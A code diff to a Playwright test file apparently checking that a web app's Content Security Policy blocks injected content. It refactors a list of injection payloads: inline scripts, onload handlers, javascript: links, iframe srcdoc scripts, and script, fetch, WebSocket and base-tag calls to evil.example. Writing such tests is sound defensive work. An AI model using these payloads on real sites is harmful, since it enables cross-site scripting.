@@ -4,6 +4,7 @@ Every test here also holds what all hold: no dialog, no error, no request elsewh
 """
 
 import asyncio
+import json
 import re
 
 from playwright.async_api import expect
@@ -58,7 +59,7 @@ async def test_prompts_stand_there_as_they_were_typed_and_do_nothing(comes: Come
         picture = ben.page.get_by_role("img", name=prompt, exact=True)
         await expect(picture).to_have_count(1)
         result = ben.messages.filter(has=picture)
-        said = re.sub(r"[^A-Za-z0-9]+", "", await result.locator(".text").first.inner_text())
+        said = re.sub(r"[^A-Za-z0-9]+", "", await result.locator(".text").first.text_content() or "")
         assert re.sub(r"[^A-Za-z0-9]+", "", prompt)[:20] in said, "the bot quotes what was asked for"
         await result.hover()
         await result.get_by_role("button", name="Alt text").click()
@@ -92,47 +93,30 @@ async def test_hostile_words_of_a_bot_do_nothing(comes_to_the_show: Comes) -> No
 
 POLICY = "Content Security Policy"
 LIMIT_S = 20.0
+
+
+def added(element: str, attribute: str, value: str) -> str:
+    """A script that puts an element into the page, and presses it where that does something."""
+    return f"""() => {{
+        const added = document.createElement("{element}");
+        added.{attribute} = {json.dumps(value)};
+        document.head.prepend(added);
+        added.click();
+    }}"""
+
+
 INJECTED = {
-    "an inline script": """() => {
-        const script = document.createElement("script");
-        script.textContent = "window.owned = true";
-        document.body.append(script);
-    }""",
-    "a handler": """() => {
-        const box = document.createElement("div");
-        box.innerHTML = '<img src="/static/easel.svg" onload="window.owned = true">';
-        document.body.append(box);
-    }""",
-    "a link that runs": """() => {
-        const link = document.createElement("a");
-        link.href = "javascript:window.owned = true";
-        document.body.append(link);
-        link.click();
-    }""",
+    "an inline script": added("script", "textContent", "window.owned = true"),
+    "a handler": added("div", "innerHTML", '<img src="/static/easel.svg" onload="window.owned = true">'),
+    "a link that runs": added("a", "href", "javascript:window.owned = true"),
     "words made code": "() => setTimeout('window.owned = true')",
-    "a script from elsewhere": """() => {
-        const script = document.createElement("script");
-        script.src = "https://evil.example/x.js";
-        document.body.append(script);
-    }""",
+    "a script from elsewhere": added("script", "src", "https://evil.example/x.js"),
     "a picture from elsewhere": "() => { new Image().src = 'https://evil.example/x.png'; }",
     "a call elsewhere": "() => fetch('https://evil.example/').catch(() => null)",
     "a socket elsewhere": "() => { try { new WebSocket('wss://evil.example/'); } catch {} }",
-    "a frame": """() => {
-        const frame = document.createElement("iframe");
-        frame.srcdoc = "<script>parent.owned = true</script>";
-        document.body.append(frame);
-    }""",
-    "a style": """() => {
-        const style = document.createElement("style");
-        style.textContent = "main { display: none }";
-        document.head.append(style);
-    }""",
-    "another base": """() => {
-        const base = document.createElement("base");
-        base.href = "https://evil.example/";
-        document.head.prepend(base);
-    }""",
+    "a frame": added("iframe", "srcdoc", "<script>parent.owned = true</script>"),
+    "a style": added("style", "textContent", "main { display: none }"),
+    "another base": added("base", "href", "https://evil.example/"),
 }
 
 
